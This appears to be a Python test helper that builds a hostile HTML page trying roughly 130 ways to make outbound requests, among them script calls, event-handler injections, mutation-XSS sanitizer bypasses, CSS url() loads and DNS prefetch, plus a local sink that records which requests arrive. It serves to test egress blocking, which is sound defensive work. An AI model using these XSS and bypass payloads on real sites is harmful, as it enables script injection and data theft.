"""A page that tries every way out that we know, and a sink that counts what arrives.

Each way leads to an address of its own at the sink (HTTP, TCP) or to a name of its own (look-ups).
"""

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

NAMES = "hostile.test"

_SCRIPTS = {
    "fetch": "fetch('U')",
    "xhr": "var x=new XMLHttpRequest();x.open('GET','U');x.send()",
    "beacon": "navigator.sendBeacon('U','x')",
    "image": "new Image().src='U'",
    "websocket": "new WebSocket('ws://S/websocket')",
    "eventsource": "new EventSource('U')",
    "import": "import('U').catch(()=>0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('U')\"])))",
    "audio": "new Audio('U').load()",
    "fontface": "new FontFace('f','url(U)').load().catch(()=>0)",
    "link": "var l=document.createElement('link');l.rel='stylesheet';l.href='U';document.head.append(l)",
    "iframe": "var i=document.createElement('iframe');i.src='U';document.documentElement.append(i)",
    "form": "var f=document.createElement('form');f.action='U';f.target='_blank';document.body.append(f)",
    "open": "window.open('U')",
    "parent": "parent.postMessage('owned','*');parent.document.title='owned'",
}
_HTML = {
    "script-src": "<script src='U'></script>",
    "script-module": "<script type=module src='U'></script>",
    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["U"]}]}</script>',
    "link-stylesheet": "<link rel=stylesheet href='U'>",
    "link-alternate": "<link rel='alternate stylesheet' title=x href='U'>",
    "link-preload-image": "<link rel=preload as=image href='U'>",
    "link-preload-script": "<link rel=preload as=script href='U'>",
    "link-preload-style": "<link rel=preload as=style href='U'>",
    "link-preload-font": "<link rel=preload as=font crossorigin href='U'>",
    "link-preload-fetch": "<link rel=preload as=fetch crossorigin href='U'>",
    "link-prefetch": "<link rel=prefetch href='U'>",
    "link-modulepreload": "<link rel=modulepreload href='U'>",
    "link-prerender": "<link rel=prerender href='U'>",
    "link-icon": "<link rel=icon href='U'>",
    "link-manifest": "<link rel=manifest href='U'>",
    "link-body": "<p><link itemprop=x rel=stylesheet href='U'>",
    "img": "<img src='U'>",
    "img-slash": "<img/src='U'/>",
    "img-srcset": "<img srcset='U 1x'>",
    "img-picture": "<picture><source srcset='U'><img></picture>",
    "img-control": "<im\x01g src=x><img\x0bsrc=x><img\x0csrc='U'>",
    "img-case": "<ImG sRc=U>",
    "img-newline": "<img\n\tsrc\n=\n'U'>",
    "img-entity": "<img src='&#104;ttp://S/img-entity'>",
    "img-relative": "<img src='//S/img-relative'>",
    "body-background": "<table background='U'><tr><td>x</td></tr></table>",
    "td-background": "<table><tr><td background='U2'>x</td></tr></table>",
    "input-image": "<input type=image src='U'>",
    "video": "<video src='U' preload=auto></video>",
    "video-poster": "<video poster='U'></video>",
    "video-source": "<video preload=auto><source src='U'></video>",
    "video-track": "<video src='data:video/mp4,' crossorigin><track default kind=captions src='U'></video>",
    "audio-src": "<audio src='U' preload=auto></audio>",
    "object": "<object data='U'></object>",
    "object-fallback": "<object data='data:x/y,'><img src='U'></object>",
    "embed": "<embed src='U'>",
    "iframe": "<iframe src='U'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='U'>\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<img src='U'>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:fetch('U')\"></iframe>",
    "shadow": "<div><template shadowrootmode=open><img src='U'></template></div>",
    "onerror": "<img src='data:,' onerror=\"fetch('U')\">",
    "onload-svg": "<svg onload=\"fetch('U')\"></svg>",
    "ontoggle": "<details open ontoggle=\"fetch('U')\"><summary>x</summary></details>",
    "onfocus": "<input autofocus onfocus=\"fetch('U')\">",
    "onanimation": "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=\"fetch('U')\">x",
    "svg-image": "<svg><image href='U' width=9 height=9 /></svg>",
    "svg-image-xlink": "<svg><image xlink:href='U' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='U#x' /></svg>",
    "svg-feimage": "<svg><filter id=f><feImage href='U'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg-script": "<svg><script href='U'></script></svg>",
    "svg-foreign": "<svg><foreignObject><img src='U'></foreignObject></svg>",
    "svg-animate": "<svg><image width=9 height=9><set attributeName=href to='U'/></image></svg>",
    "svg-style": "<svg><style>@import 'U';</style></svg>",
    "svg-fill": "<svg><rect width=9 height=9 fill=\"url('U#x')\"/></svg>",
    "mxss-math": "<math><mtext><table><mglyph><style><!--</style><p title=\"--&gt;&lt;img src='U'&gt;\"></table>",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src='U'>\"></noscript>",
    "mxss-textarea": "<textarea></textarea/><img src='U'></textarea>",
    "mxss-comment": "<!--><img src='U'>-->",
    "mxss-bogus": "<!x><img src='U'><?y>",
    "mxss-cdata": "<svg><![CDATA[><img src='U'>]]></svg>",
    "mxss-attribute": "<p title='<img src=x' ><img src='U'>",
    "mxss-select": "<select><option><img src='U'></select><img src='U3'>",
    "marquee": "<marquee onstart=\"fetch('U')\">x</marquee>",
    "css-import": "<style>@import 'U';</style>",
    "css-import-url": "<style>@import url(U);</style>",
    "css-background": "<style>.a1{background:url(U)}</style><p class=a1>x",
    "css-escaped": "<style>.a2{background:\\75 rl(U)}</style><p class=a2>x",
    "css-list": "<ul style='list-style-image:url(U)'><li>x</ul>",
    "css-cursor": "<style>body{cursor:url(U),auto}</style>",
    "css-border": "<p style='border:9px solid;border-image:url(U) 9'>x",
    "css-mask": "<p style='-webkit-mask:url(U);mask:url(U)'>x",
    "css-content": "<style>.a3::before{content:url(U)}</style><p class=a3>x",
    "css-font": "<style>@font-face{font-family:zz;src:url(U)}.a4{font-family:zz}</style><p class=a4>x",
    "css-set": "<p style=\"background:image-set('U' 1x)\">x",
    "css-cross": "<p style='background:-webkit-cross-fade(url(U),url(data:,),50%)'>x",
    "css-shape": "<p style='float:left;width:9px;height:9px;shape-outside:url(U)'>x",
    "css-filter": "<p style='filter:url(U#x)'>x",
    "css-clip": "<p style='clip-path:url(U#x)'>x",
    "css-attribute": "<p style=\"background-image:url('U')\">x",
    "css-entity": "<p style='background:url(&#104;ttp://S/css-entity)'>x",
    "css-media": "<style>@media all{.a5{background:url(U)}}</style><p class=a5>x",
    "css-supports": "<style>@supports (color:red){@layer l{.a6{background:url(U)}}}</style><p class=a6>x",
    "css-end": "<style>.a7{}<!-- </STYLE ><img src='U'>",
}
_LOOKED_UP = {
    "dns-prefetch": "<link rel=dns-prefetch href='//N'>",
    "preconnect": "<link rel=preconnect href='http://N'>",
    "preconnect-img": "<img src='http://N/x'>",
}
_CLICKED = {
    "self": "<a href='U'>{}</a>",
    "top": "<a href='U' target=_top>{}</a>",
    "blank": "<a href='U' target=_blank>{}</a>",
    "ping": "<a href='#' ping='U'>{}</a>",
    "download": "<a href='U' download>{}</a>",
    "javascript": "<a href=\"javascript:fetch('U')\">{}</a>",
    "own": "<a href='/answer.json'>{}</a>",
    "onclick": "<a onclick=\"fetch('U')\">{}</a>",
    "submit": "<form action='U' method=post target=_top><button>{}</button></form>",
    "submit-get": "<form action='U'><input type=submit value='{}'></form>",
    "formaction": "<form><button formaction='U'>{}</button></form>",
    "label": "<form action='U'><label>{}<input type=submit></label></form>",
    "summary": "<details ontoggle=\"fetch('U')\"><summary>{}</summary><img loading=lazy src='U'></details>",
    "area": "<map name=m><area href='U' coords='0,0,99,99'></map><img usemap='#m' width=90 height=14 alt='{}'>",
}
_LAST = "<meta http-equiv=refresh content='2;url=U'><base href='http://S/'><img src='base'>"


def hostile_page(port: int, tag: str) -> bytes:
    """The page. Its sink is at `port`, its names end with `tag`."""

    def filled(source: str, name: str) -> str:
        sink = f"127.0.0.1:{port}"
        source = re.sub(r"\bU([23]?)\b", lambda found: f"http://{sink}/{name}{found[1]}", source)
        return source.replace("//S/", f"//{sink}/").replace("//N", f"//{name}.{tag}.{NAMES}")

    clicked = (filled(source, f"click-{name}").replace("{}", "click here " * 9) for name, source in _CLICKED.items())
    rows = [f"<div style='height:16px;overflow:hidden'>{source}</div>" for source in clicked]
    html = "".join(filled(source, name) + "\n" for name, source in {**_HTML, **_LOOKED_UP}.items())
    scripts = "".join(f"<script>{filled(source, f'script-{name}')}</script>\n" for name, source in _SCRIPTS.items())
    last = filled(_LAST, "refresh")
    page = f"<!DOCTYPE html><html><head><title>hostile</title></head><body>{''.join(rows)}{scripts}{html}{last}"
    return f"{page}<p>{'A page like any other, with words. ' * 20}</p></body></html>".encode()


WAYS = len(_SCRIPTS) + len(_HTML) + len(_LOOKED_UP) + len(_CLICKED) + 2


class Sink:
    """Counts connections, and the paths of the requests that come over them."""

    def __init__(self) -> None:
        self.connections = 0
        self.paths: set[str] = set()
        self._listener = socket.create_server(("127.0.0.1", 0), backlog=128)
        self.port = int(self._listener.getsockname()[1])
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._read, args=(connection,), daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(5)
            try:
                words = connection.recv(4096).split(b" ", 2)
                if len(words) == 3:
                    self.paths.add(words[1].decode("latin-1"))
                    connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            except OSError:
                pass

    def close(self) -> None:
        self._listener.close()


@contextmanager
def sink() -> Iterator[Sink]:
    """A sink, until the end of the block."""
    made = Sink()
    try:
        yield made
    finally:
        made.close()


@contextmanager
def bare_server(answers: dict[str, tuple[dict[str, str], bytes]]) -> Iterator[str]:
    """A server that answers as told, without any guard. Gives its address."""
    import http.server

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            headers, body = answers.get(self.path, ({}, b""))
            self.send_response(200 if self.path in answers else 404)
            for name, value in {
                "Content-Type": "text/html; charset=utf-8",
                "Content-Length": str(len(body)),
                **headers,
            }.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
